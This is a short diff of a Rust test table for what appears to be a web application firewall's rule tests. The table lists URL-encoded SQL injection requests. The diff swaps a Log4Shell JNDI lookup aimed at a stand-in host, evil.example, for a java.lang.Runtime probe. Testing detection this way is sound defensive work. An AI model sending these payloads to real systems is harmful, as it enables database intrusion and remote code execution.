@@ -164,7 +164,7 @@ const ATTACKS: [(u64, &str, &str, &str); 11] = [
     (942_100, "/?id=1%27%20or%20%271%27=%271%27--%20-", "", ""),
     (942_190, "/?var=1+union+select+1,2,3", "", ""),
     (942_100, "/login", "Content-Type: application/x-www-form-urlencoded\r\n", "user=x%27+OR+1%3D1--+-&password=y"),
-    (944_150, "/?x=$%7Bjndi:ldap://evil.example/a%7D", "", ""),
+    (944_100, "/?test=java.lang.Runtime", "", ""),
 ];
 
 #[test]
